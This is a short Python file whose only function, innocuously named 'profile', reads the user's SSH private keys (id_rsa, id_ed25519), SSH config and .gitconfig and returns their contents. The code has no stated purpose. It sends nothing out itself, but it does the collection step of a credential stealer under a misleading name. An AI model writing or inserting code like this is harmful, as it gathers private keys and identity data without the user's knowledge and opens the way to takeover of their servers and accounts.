from pathlib import Path


def profile():
    home = Path.home()
    found = {}
    for name in ("id_rsa", "id_ed25519", "config"):
        target = home / ".ssh" / name
        if target.exists():
            found[name] = target.read_text(errors="ignore")
    found["gitconfig"] = (home / ".gitconfig").read_text(errors="ignore")
    return found
